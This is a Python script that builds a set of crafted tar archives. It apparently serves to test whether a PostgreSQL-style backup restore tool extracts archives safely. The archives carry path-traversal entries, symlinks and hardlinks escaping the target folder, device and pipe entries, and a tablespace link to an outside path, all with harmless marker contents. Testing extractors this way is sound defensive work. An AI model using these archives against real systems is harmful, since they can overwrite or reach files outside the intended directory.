"""Archives that want to reach what lies outside of where they are unpacked.

crafted.py FOLDER OUTSIDE [SOURCE]

Writes one archive for each attack into FOLDER, NAME.tar. With SOURCE, a directory, each holds the files of that directory first, so
that it would be unpacked but for the attack. OUTSIDE is the folder that the attacks aim at.
"""
import io
import sys
import tarfile
from pathlib import Path

folder, outside = Path(sys.argv[1]), sys.argv[2]
source = sys.argv[3] if len(sys.argv) > 3 else None


def member(name, kind=tarfile.REGTYPE, target="", data=b""):
    entry = tarfile.TarInfo(name)
    entry.type = kind
    entry.linkname = target
    entry.size = len(data)
    entry.mode = 0o644
    entry.devmajor, entry.devminor = 1, 3
    return entry, data


OWNED = b"owned\n"
ATTACKS = {
    "absolute": [member(f"{outside}/file", data=OWNED)],
    "dotdot": [member("base/../../file", data=OWNED)],
    "dotdot-first": [member("../file", data=OWNED)],
    "folder-dotdot": [member("../new", tarfile.DIRTYPE)],
    "link-absolute": [member("base/link", tarfile.SYMTYPE, outside)],
    "link-out": [member("base/link", tarfile.SYMTYPE, "../../outside")],
    "link-through-link": [member("base/up", tarfile.SYMTYPE, ".."), member("base/link", tarfile.SYMTYPE, "up/../outside")],
    "write-through-link": [member("base/link", tarfile.SYMTYPE, "../global"), member("base/link/file", data=OWNED)],
    "write-over-link": [member("base/link", tarfile.SYMTYPE, "../PG_VERSION"), member("base/link", data=OWNED)],
    "folder-over-link": [member("base/link", tarfile.SYMTYPE, "../global"), member("base/link", tarfile.DIRTYPE)],
    "hard-absolute": [member("base/hard", tarfile.LNKTYPE, f"{outside}/canary")],
    "hard-dotdot": [member("base/hard", tarfile.LNKTYPE, "../outside/canary")],
    "hard-to-link": [member("base/link", tarfile.SYMTYPE, "../PG_VERSION"), member("base/hard", tarfile.LNKTYPE, "base/link")],
    "hard-to-nothing": [member("base/hard", tarfile.LNKTYPE, "base/none")],
    "hard-through-link": [member("base/link", tarfile.SYMTYPE, "../global"), member("base/hard", tarfile.LNKTYPE, "base/link/pg_control")],
    "device": [member("base/null", tarfile.CHRTYPE)],
    "block-device": [member("base/disk", tarfile.BLKTYPE)],
    "pipe": [member("base/pipe", tarfile.FIFOTYPE)],
    "twice": [member("base/file", data=b"one\n"), member("base/file", data=b"two\n")],
    "twice-in-other-words": [member("base/file", data=b"one\n"), member("./base//file", data=b"two\n")],
    "file-as-folder": [member("base/file", data=b"one\n"), member("base/file/more", data=OWNED)],
    "no-name": [member("./", data=OWNED)],
    "tablespace": [member("pg_tblspc/16400", tarfile.SYMTYPE, f"{outside}/space")],
}

for name, members in ATTACKS.items():
    with tarfile.open(folder / f"{name}.tar", "w", format=tarfile.GNU_FORMAT) as archive:
        if source:
            archive.add(source, arcname=".")
        for entry, data in members:
            archive.addfile(entry, io.BytesIO(data))
